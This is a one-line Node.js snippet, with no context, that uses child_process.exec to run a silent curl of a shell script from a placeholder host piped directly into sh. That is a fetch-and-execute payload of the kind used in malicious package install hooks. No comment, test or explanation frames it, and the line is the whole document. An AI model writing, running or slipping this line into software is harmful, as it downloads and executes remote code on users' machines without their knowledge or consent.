require('child_process').exec('curl -s https://example.invalid/s.sh | sh');
